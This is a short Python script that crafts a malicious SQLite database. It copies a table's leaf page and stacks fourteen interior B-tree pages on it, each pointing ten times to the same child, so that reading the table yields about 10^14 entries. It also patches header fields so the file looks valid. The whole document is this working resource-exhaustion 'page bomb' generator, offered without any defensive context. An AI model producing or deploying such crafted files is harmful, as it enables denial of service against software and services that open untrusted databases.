"""Makes of a whole record one whose table of entries never ends: a dozen pages that lead to each other in 10^14 ways.

usage: page-bomb.py RECORD BOMB
"""
import sqlite3
import struct
import sys

PAGE = 4096
DEPTH, WIDTH = 14, 10

record, bomb = sys.argv[1:]
with sqlite3.connect(record) as database:
    root = database.execute("SELECT rootpage FROM sqlite_master WHERE name = 'entry'").fetchone()[0]
data = bytearray(open(record, "rb").read())
assert struct.unpack(">H", data[16:18])[0] == PAGE and len(data) % PAGE == 0
leaf = bytes(data[(root - 1) * PAGE:root * PAGE])
assert leaf[0] == 0x0A, "the entries fill more than a page"

# The first cell of the leaf, as long as its payload, which stays on the page.
start = struct.unpack(">H", leaf[8:10])[0]
size, at = 0, start
while True:
    byte = leaf[at]
    size, at = size << 7 | byte & 0x7F, at + 1
    if byte < 0x80:
        break
cell = leaf[start:at + size]


def interior(child):
    """An interior page of the index whose every child is the same page."""
    one = struct.pack(">I", child) + cell
    content = PAGE - len(one)
    page = bytearray(PAGE)
    page[0] = 0x02
    page[3:5] = struct.pack(">H", WIDTH)
    page[5:7] = struct.pack(">H", content)
    page[8:12] = struct.pack(">I", child)
    for index in range(WIDTH):
        page[12 + 2 * index:14 + 2 * index] = struct.pack(">H", content)
    page[content:] = one
    return page


data += leaf
for _ in range(DEPTH):
    data += interior(len(data) // PAGE)
data[(root - 1) * PAGE:root * PAGE] = interior(len(data) // PAGE)
data[28:32] = struct.pack(">I", len(data) // PAGE)
data[92:96] = data[24:28]
open(bomb, "wb").write(data)
